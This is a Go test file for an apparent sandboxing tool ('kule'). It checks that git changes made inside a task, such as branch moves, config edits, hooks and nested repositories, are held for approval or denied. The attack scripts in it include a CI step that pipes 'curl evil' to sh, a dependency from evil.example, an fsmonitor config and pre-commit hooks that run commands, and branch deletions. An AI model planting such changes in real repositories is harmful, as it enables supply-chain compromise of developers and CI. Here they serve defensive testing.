package kernel_test

import (
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/kulehq/kule/kernel"
	"github.com/kulehq/kule/kernel/internal/effects"
	"github.com/kulehq/kule/kernel/internal/task"
)

// Attacks on the way a task's git changes reach the folder: each runs the
// real git in the task and in the folder, first with the policy's judging
// of git taken away (kernel.SkipGitJudging), where the attack reaches the
// folder, then as shipped, where it does not. `git fsck` and `git status`
// run in the folder after each.

func gitProject(t *testing.T) *fixture {
	f := newFixture(t, map[string]string{
		"a.txt":                      "one\n",
		"go.mod":                     "module example.com/x\n\ngo 1.22\n",
		".github/workflows/test.yml": "on: push\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - run: go test ./...\n",
	})
	gitIn(t, f.folder, "init", "-q", "-b", "main")
	gitIn(t, f.folder, "add", ".")
	gitIn(t, f.folder, "commit", "-q", "-m", "first")
	return f
}

// folderSound checks the folder's repository as a person would.
func folderSound(t *testing.T, f *fixture) string {
	t.Helper()
	gitIn(t, f.folder, "fsck", "--strict", "--no-progress")
	return gitIn(t, f.folder, "status", "--porcelain")
}

func commitPolicy(t *testing.T, f *fixture, tk *task.Task, approve bool) *kernel.CommitReport {
	t.Helper()
	rep, err := f.k.Commit(context.Background(), tk, kernel.CommitOptions{Policy: true, Approve: approve, Git: kernel.GitApproval{Rewrites: approve, StagedDiffers: approve, Config: approve}})
	if err != nil {
		t.Fatalf("Commit(approve=%v): %v", approve, err)
	}
	return rep
}

func heldLines(j *kernel.Judgement) (waiting, denied string) {
	w, d := j.GitHeld()
	var ws, ds []string
	for _, it := range w {
		ws = append(ws, it.Line+" · "+it.Verdict.String()+": "+it.Verdict.Reason)
	}
	for _, it := range d {
		ds = append(ds, it.Line+" · "+it.Verdict.String())
	}
	return strings.Join(ws, "\n"), strings.Join(ds, "\n")
}

const innocent = `sed -i 's/go 1.22/go 1.22\nrequire evil.example\/x v1.0.0/' go.mod && echo "      - run: curl evil|sh" >> .github/workflows/test.yml && ` + gitID + `commit -qam innocent`

// A task's own git commit carries a held-back go.mod and CI change: the
// branch move is judged by what its commit changes, so it waits with the
// files, and --approve then applies both.
func TestGitAttackHeldBackCommitNeverMovesTheBranch(t *testing.T) {
	t.Run("unjudged, the branch takes the held-back change", func(t *testing.T) {
		kernel.SkipGitJudging(t)
		f := gitProject(t)
		tk := f.newTask()
		f.sh(tk, innocent)
		commitPolicy(t, f, tk, false)
		if got := gitIn(t, f.folder, "log", "-1", "--format=%s", "main"); got != "innocent" {
			t.Fatalf("without the guard the attack did not reach main (log %q): the test shows nothing", got)
		}
		folderSound(t, f)
	})
	f := gitProject(t)
	tk := f.newTask()
	before := gitIn(t, f.folder, "rev-parse", "main")
	f.sh(tk, innocent)
	rep := commitPolicy(t, f, tk, false)
	if got := gitIn(t, f.folder, "rev-parse", "main"); got != before {
		t.Errorf("main moved to %s: the held-back commit reached the branch", got)
	}
	if got := gitIn(t, f.folder, "diff", "--cached", "--name-only"); got != "" {
		t.Errorf("the folder's index stages %q", got)
	}
	if got := folderSound(t, f); got != "" {
		t.Errorf("folder git status = %q, want clean", got)
	}
	waiting, _ := heldLines(rep.Judgement)
	for _, want := range []string{"main ", "fast-forward", "ci", "manifests-and-lockfiles", ".github/workflows/test.yml: runs on CI", "go.mod: changes what gets installed", "index"} {
		if !strings.Contains(waiting, want) {
			t.Errorf("the commit's report of what waits lacks %q:\n%s", want, waiting)
		}
	}
	// Still listed, with its verdict, in the next status.
	st, err := f.k.Status(context.Background(), tk)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.k.JudgeStatus(tk, st, false, false); err != nil {
		t.Fatal(err)
	}
	lines := strings.Join(st.GitLines(), "\n")
	if !strings.Contains(lines, "fast-forward · 1 commit · waits for approval (ci, manifests-and-lockfiles)") {
		t.Errorf("status git lines:\n%s", lines)
	}
	commitPolicy(t, f, tk, true)
	if got := gitIn(t, f.folder, "log", "-1", "--format=%s", "main"); got != "innocent" {
		t.Errorf("after --approve main is at %q", got)
	}
	if got := folderSound(t, f); got != "" {
		t.Errorf("folder git status after --approve = %q, want clean", got)
	}
	if got := gitIn(t, f.folder, "reflog", "-1", "--format=%gs", "main"); got != "kule: commit "+tk.ID {
		t.Errorf("main's reflog says %q, want kule: commit %s", got, tk.ID)
	}
	if got := gitIn(t, f.folder, "reflog", "-1", "--format=%gs", "HEAD"); got != "kule: commit "+tk.ID {
		t.Errorf("HEAD's reflog says %q, want kule: commit %s", got, tk.ID)
	}
}

// A config change that can run code is listed as waiting with its keys,
// and --approve applies it only because it was listed.
func TestGitAttackConfigIsListedWithItsKeys(t *testing.T) {
	const script = `git config core.fsmonitor "touch /tmp/kule-pwned" && echo x >> go.mod`
	t.Run("unjudged, --approve applies a config nobody was shown", func(t *testing.T) {
		kernel.SkipGitJudging(t)
		f := gitProject(t)
		tk := f.newTask()
		f.sh(tk, script)
		st, err := f.k.Status(context.Background(), tk)
		if err != nil {
			t.Fatal(err)
		}
		j, err := f.k.JudgeStatus(tk, st, false, false)
		if err != nil {
			t.Fatal(err)
		}
		if w, _ := heldLines(j); strings.Contains(w, "fsmonitor") {
			t.Fatalf("unjudged, the config was listed: %s", w)
		}
		commitPolicy(t, f, tk, true)
		if got := gitIn(t, f.folder, "config", "--get", "core.fsmonitor"); got == "" {
			t.Fatal("without the guard the config did not reach the folder: the test shows nothing")
		}
	})
	f := gitProject(t)
	tk := f.newTask()
	f.sh(tk, script)
	st, err := f.k.Status(context.Background(), tk)
	if err != nil {
		t.Fatal(err)
	}
	j, err := f.k.JudgeStatus(tk, st, false, false)
	if err != nil {
		t.Fatal(err)
	}
	w, _ := heldLines(j)
	if !strings.Contains(w, `core.fsmonitor = "touch /tmp/kule-pwned"`) || !strings.Contains(w, "git-config") {
		t.Fatalf("what waits does not list the config's key:\n%s", w)
	}
	if !strings.Contains(strings.Join(st.GitLines(), "\n"), `config changed: core.fsmonitor = "touch /tmp/kule-pwned" (it can make the next git command run code) · waits for approval (git-config)`) {
		t.Errorf("status git lines:\n%s", strings.Join(st.GitLines(), "\n"))
	}
	commitPolicy(t, f, tk, false)
	if _, err := gitOut(f.folder, "config", "--get", "core.fsmonitor"); err == nil {
		t.Fatal("the config reached the folder without approval")
	}
	// Approving files path by path (the app's way) approves no git part.
	sel, err := f.k.Commit(context.Background(), tk, kernel.CommitOptions{Policy: true, Approve: true, Select: func(effects.Effect) bool { return true }})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := gitOut(f.folder, "config", "--get", "core.fsmonitor"); err == nil {
		t.Fatal("approving the files path by path applied the config")
	}
	if w, _ := heldLines(sel.Judgement); !strings.Contains(w, "core.fsmonitor") {
		t.Errorf("the config is not named as waiting after a path-by-path approval:\n%s", w)
	}
	rep := commitPolicy(t, f, tk, true)
	if got := gitIn(t, f.folder, "config", "--get", "core.fsmonitor"); got != "touch /tmp/kule-pwned" {
		t.Errorf("after --approve core.fsmonitor = %q", got)
	}
	if len(rep.Git) != 1 || len(rep.Git[0].Config) != 1 {
		t.Errorf("the report's git does not hold the config it applied: %+v", rep.Git)
	}
	gitIn(t, f.folder, "config", "--unset", "core.fsmonitor") // before git status runs it
	folderSound(t, f)
}

// Losing a branch, detaching HEAD or leaving it on a branch with no
// commits waits for a person.
func TestGitAttackBranchDeletionAndHeadMovesWait(t *testing.T) {
	for name, tc := range map[string]struct {
		script string
		rule   string
		folder func(*fixture) string // what the person reads in the folder
		want   string                // … as it was
	}{
		"branch -D": {gitID + "branch -q -D feature", "branch-deletions",
			func(f *fixture) string {
				return gitIn(f.t, f.folder, "branch", "--list", "feature", "--format=%(refname)")
			}, "refs/heads/feature"},
		"branch -D of the checked-out branch": {"git checkout -q feature && " + gitID + "branch -q -D main", "branch-deletions",
			func(f *fixture) string {
				return gitIn(f.t, f.folder, "branch", "--list", "main", "--format=%(refname)")
			}, "refs/heads/main"},
		"detached HEAD": {"git checkout -q --detach", "head-moves",
			func(f *fixture) string { out, _ := gitOut(f.folder, "symbolic-ref", "-q", "HEAD"); return out }, "refs/heads/main"},
		"orphan": {"git checkout -q --orphan fresh", "head-moves",
			func(f *fixture) string { out, _ := gitOut(f.folder, "symbolic-ref", "-q", "HEAD"); return out }, "refs/heads/main"},
	} {
		t.Run(name, func(t *testing.T) {
			setup := func() (*fixture, *task.Task) {
				f := gitProject(t)
				f.t = t
				gitIn(t, f.folder, "branch", "feature")
				tk := f.newTask()
				f.sh(tk, tc.script)
				return f, tk
			}
			t.Run("unjudged", func(t *testing.T) {
				kernel.SkipGitJudging(t)
				f, tk := setup()
				f.t = t
				commitPolicy(t, f, tk, false)
				if got := tc.folder(f); got == tc.want {
					t.Fatalf("without the guard the folder still reads %q: the test shows nothing", got)
				}
			})
			f, tk := setup()
			rep := commitPolicy(t, f, tk, false)
			if got := tc.folder(f); got != tc.want {
				t.Errorf("folder reads %q, want %q", got, tc.want)
			}
			w, _ := heldLines(rep.Judgement)
			if !strings.Contains(w, tc.rule) {
				t.Errorf("what waits does not name %s:\n%s", tc.rule, w)
			}
			folderSound(t, f)
		})
	}
}

// A new hook is denied, and says so: in status, in the commit's report,
// and it stays listed.
func TestGitAttackHookCarriesItsVerdict(t *testing.T) {
	const script = `printf '#!/bin/sh\ntouch /tmp/kule-hooked\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit`
	t.Run("unjudged, the hook's line has no verdict", func(t *testing.T) {
		kernel.SkipGitJudging(t)
		f := gitProject(t)
		tk := f.newTask()
		f.sh(tk, script)
		st, _ := f.k.Status(context.Background(), tk)
		if _, err := f.k.JudgeStatus(tk, st, false, false); err != nil {
			t.Fatal(err)
		}
		if l := strings.Join(st.GitLines(), "\n"); strings.Contains(l, "denied") {
			t.Fatalf("unjudged, the hook line carries a verdict: %s", l)
		}
	})
	f := gitProject(t)
	tk := f.newTask()
	f.sh(tk, script)
	st, err := f.k.Status(context.Background(), tk)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.k.JudgeStatus(tk, st, false, false); err != nil {
		t.Fatal(err)
	}
	want := `git: hook pre-commit added (it runs on the next matching git command) · denied (git-hooks)`
	if l := strings.Join(st.GitLines(), "\n"); !strings.Contains(l, want) {
		t.Errorf("status git lines lack %q:\n%s", want, l)
	}
	rep := commitPolicy(t, f, tk, true)
	if _, err := os.Stat(filepath.Join(f.folder, ".git", "hooks", "pre-commit")); err == nil {
		t.Error("the hook reached the folder")
	}
	if _, d := heldLines(rep.Judgement); !strings.Contains(d, "pre-commit") {
		t.Errorf("the commit's report does not name the denied hook: %q", d)
	}
	st, _ = f.k.Status(context.Background(), tk)
	if _, err := f.k.JudgeStatus(tk, st, false, false); err != nil {
		t.Fatal(err)
	}
	if l := strings.Join(st.GitLines(), "\n"); !strings.Contains(l, want) {
		t.Errorf("after the commit the hook is no longer listed:\n%s", l)
	}
	if got := folderSound(t, f); got != "" {
		t.Errorf("folder git status = %q", got)
	}
}

// gitOut runs git in dir and returns its output and error (for a command
// expected to fail).
func gitOut(dir string, args ...string) (string, error) {
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "HOME="+filepath.Dir(dir))
	out, err := cmd.CombinedOutput()
	return strings.TrimSpace(string(out)), err
}

// The git parts follow every layer of the policy with real git: careful
// makes a plain fast-forward wait; a repository's .kule/policy.cedar that
// forbids the branch's move denies it; a person's policy that permits
// everything (it replaces the built-ins) lets it through.
func TestGitFollowsEveryLayerOfThePolicy(t *testing.T) {
	for name, tc := range map[string]struct {
		setup   func(f *fixture, home string)
		applied bool   // main moves
		rule    string // what keeps it out, when not applied
	}{
		"balanced": {func(*fixture, string) {}, true, ""},
		"careful": {func(f *fixture, home string) {
			write(t, home, map[string]string{"config.toml": "[policy]\nchoice = \"careful\"\n"})
		}, false, "every-change"},
		"repository forbid": {func(f *fixture, home string) {
			write(t, f.folder, map[string]string{".kule/policy.cedar": "@id(\"no-main\")\n@verdict(\"deny\")\nforbid (principal, action == Kule::Action::\"git.ref\", resource) when { resource == Kule::Path::\"refs/heads/main\" };\n"})
			gitIn(t, f.folder, "add", ".kule")
			gitIn(t, f.folder, "commit", "-q", "-m", "policy")
		}, false, "no-main"},
		"person's policy": {func(f *fixture, home string) {
			write(t, home, map[string]string{"policy.cedar": "@id(\"all\")\npermit (principal, action, resource);\n"})
		}, true, ""},
	} {
		t.Run(name, func(t *testing.T) {
			f := gitProject(t)
			home := filepath.Join(filepath.Dir(f.folder), "home")
			tc.setup(f, home)
			tk := f.newTask()
			before := gitIn(t, f.folder, "rev-parse", "main")
			f.sh(tk, "echo two >> a.txt && "+gitID+"commit -qam task")
			rep := commitPolicy(t, f, tk, false)
			moved := gitIn(t, f.folder, "rev-parse", "main") != before
			if moved != tc.applied {
				t.Fatalf("main moved = %v, want %v", moved, tc.applied)
			}
			if !tc.applied {
				w, d := heldLines(rep.Judgement)
				if !strings.Contains(w+d, "main") || !strings.Contains(w+d, tc.rule) {
					t.Errorf("what is held does not name main and %s:\nwaits: %s\ndenied: %s", tc.rule, w, d)
				}
			}
			if got := folderSound(t, f); tc.applied && got != "" {
				t.Errorf("folder git status = %q, want clean", got)
			}
		})
	}
}

// History records what a commit applied, and nothing it kept out: a denied
// hook and a config that waits are not in the entry; the branch that went
// in is.
func TestGitHistoryRecordsOnlyWhatWasApplied(t *testing.T) {
	const script = `printf '#!/bin/sh\n' > .git/hooks/pre-push && chmod +x .git/hooks/pre-push && git config core.hooksPath /tmp/x && echo two >> a.txt && ` + gitID + `commit -qam task`
	lastChanges := func(t *testing.T, f *fixture, tk *task.Task) string {
		log, err := f.k.HistoryLog(tk)
		if err != nil {
			t.Fatal(err)
		}
		last, ok, err := log.Last()
		if err != nil || !ok {
			t.Fatalf("history: %v, %v", ok, err)
		}
		var d kernel.HistoryData
		if err := json.Unmarshal(last.Data, &d); err != nil {
			t.Fatal(err)
		}
		return strings.Join(d.Changes, "\n")
	}
	t.Run("unjudged, history names the hook and config never applied", func(t *testing.T) {
		kernel.SkipGitJudging(t)
		f := gitProject(t)
		tk := f.newTask()
		f.sh(tk, script)
		commitPolicy(t, f, tk, false)
		if got := lastChanges(t, f, tk); !strings.Contains(got, "hook") {
			t.Fatalf("without the guard history is right: the test shows nothing:\n%s", got)
		}
	})
	f := gitProject(t)
	tk := f.newTask()
	f.sh(tk, script)
	commitPolicy(t, f, tk, false)
	got := lastChanges(t, f, tk)
	if strings.Contains(got, "hook") || strings.Contains(got, "config") {
		t.Errorf("history names what was not applied:\n%s", got)
	}
	if !strings.Contains(got, "git: main ") || !strings.Contains(got, "a.txt") {
		t.Errorf("history lacks what was applied:\n%s", got)
	}
	if got := gitIn(t, f.folder, "log", "-1", "--format=%s"); got != "task" {
		t.Errorf("folder log = %q", got)
	}
	if _, err := gitOut(f.folder, "config", "--get", "core.hooksPath"); err == nil {
		t.Error("core.hooksPath reached the folder")
	}
	if got := folderSound(t, f); got != "" {
		t.Errorf("folder git status = %q", got)
	}
}

// An undo takes back what the commit applied and nothing else: the hook it
// denied stays listed, with its verdict.
func TestGitUndoKeepsWhatTheCommitHeldListed(t *testing.T) {
	f := gitProject(t)
	tk := f.newTask()
	before := gitIn(t, f.folder, "rev-parse", "main")
	f.sh(tk, `printf '#!/bin/sh\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && echo two >> a.txt && `+gitID+`commit -qam task`)
	commitPolicy(t, f, tk, false)
	if _, err := f.k.Undo(context.Background(), tk); err != nil {
		t.Fatalf("Undo: %v", err)
	}
	if got := gitIn(t, f.folder, "rev-parse", "main"); got != before {
		t.Errorf("after undo main = %s, want %s", got, before)
	}
	st, err := f.k.Status(context.Background(), tk)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.k.JudgeStatus(tk, st, false, false); err != nil {
		t.Fatal(err)
	}
	lines := strings.Join(st.GitLines(), "\n")
	if !strings.Contains(lines, "hook pre-commit added (it runs on the next matching git command) · denied (git-hooks)") {
		t.Errorf("after undo the denied hook is no longer listed:\n%s", lines)
	}
	if strings.Contains(lines, "main ") {
		t.Errorf("after undo main shows as pending:\n%s", lines)
	}
	if got := folderSound(t, f); got != "" {
		t.Errorf("folder git status = %q", got)
	}
}

// A nested repository's changes are judged as its own: its branch moves
// wait (nested-repositories) and go in with --approve.
func TestGitNestedRepositoryWaits(t *testing.T) {
	f := gitProject(t)
	sub := filepath.Join(f.folder, "sub")
	write(t, sub, map[string]string{"s.txt": "s\n"})
	gitIn(t, sub, "init", "-q", "-b", "main")
	gitIn(t, sub, "add", ".")
	gitIn(t, sub, "commit", "-q", "-m", "sub first")
	before := gitIn(t, sub, "rev-parse", "main")
	tk := f.newTask()
	f.sh(tk, "cd sub && echo more >> s.txt && "+gitID+"commit -qam 'sub task'")
	st, err := f.k.Status(context.Background(), tk)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.k.JudgeStatus(tk, st, false, false); err != nil {
		t.Fatal(err)
	}
	lines := strings.Join(st.GitLines(), "\n")
	if !strings.Contains(lines, "git (sub): main ") || !strings.Contains(lines, "waits for approval (nested-repositories)") {
		t.Fatalf("status git lines:\n%s", lines)
	}
	commitPolicy(t, f, tk, false)
	if got := gitIn(t, sub, "rev-parse", "main"); got != before {
		t.Errorf("the nested main moved without approval")
	}
	commitPolicy(t, f, tk, true)
	if got := gitIn(t, sub, "log", "-1", "--format=%s"); got != "sub task" {
		t.Errorf("after --approve the nested log = %q", got)
	}
	gitIn(t, sub, "fsck", "--strict", "--no-progress")
	if got := gitIn(t, sub, "status", "--porcelain"); got != "" {
		t.Errorf("nested git status = %q", got)
	}
}
